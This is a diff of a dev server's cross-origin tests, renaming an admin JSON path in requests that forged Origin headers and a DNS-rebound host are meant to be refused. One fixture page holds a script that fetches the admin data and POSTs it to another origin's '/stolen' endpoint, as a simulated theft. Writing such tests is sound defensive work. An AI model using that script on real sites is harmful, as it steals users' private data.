@@ -38,7 +38,7 @@ const FOREIGN = "https://evil.example"
 test.describe("the dev server", () => {
   test("gives the content, the GraphQL API and the CMS's files to its own pages, with no CORS header", async () => {
     for (const pathname of [
-      "/admin/content.json",
+      "/admin/data.json",
       "/admin/cms/main.js",
       `/___graphql?query=${encodeURIComponent("{site{id}}")}`,
     ]) {
@@ -50,11 +50,11 @@ test.describe("the dev server", () => {
 
   test("refuses another site's page, and a name of another site rebound to this machine", async () => {
     const tries: [string, Record<string, string>][] = [
-      ["/admin/content.json", { Host: SITE_HOST, Origin: FOREIGN }],
+      ["/admin/data.json", { Host: SITE_HOST, Origin: FOREIGN }],
       [`/___graphql?query=${encodeURIComponent("{site{id}}")}`, { Host: SITE_HOST, Origin: FOREIGN }],
       // A <script src> from another site sends no Origin; the browser says where it comes from.
       ["/admin/cms/main.js", { Host: SITE_HOST, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors" }],
-      ["/admin/content.json", { Host: "rb.example:8000", Origin: "http://rb.example:8000" }],
+      ["/admin/data.json", { Host: "rb.example:8000", Origin: "http://rb.example:8000" }],
       ["/socket.io/?EIO=4&transport=polling", { Host: SITE_HOST, Origin: FOREIGN }],
     ]
     for (const [pathname, headers] of tries) {
@@ -138,7 +138,7 @@ test.describe("a link from another site's page, followed in the browser (issue 3
       const to = new URL(request.url ?? "/", otherOrigin).searchParams.get("to")
       if (to) return void response.end(`<!doctype html><title>Other site</title><a id="go" href="${to}">Go</a>`)
       response.end(
-        `<!doctype html><script>fetch("/admin/content.json").then((r) => r.text())` +
+        `<!doctype html><script>fetch("/admin/data.json").then((r) => r.text())` +
           `.then((t) => fetch("${otherOrigin}/stolen", { method: "POST", body: t, mode: "no-cors" }))</script>`,
       )
     })
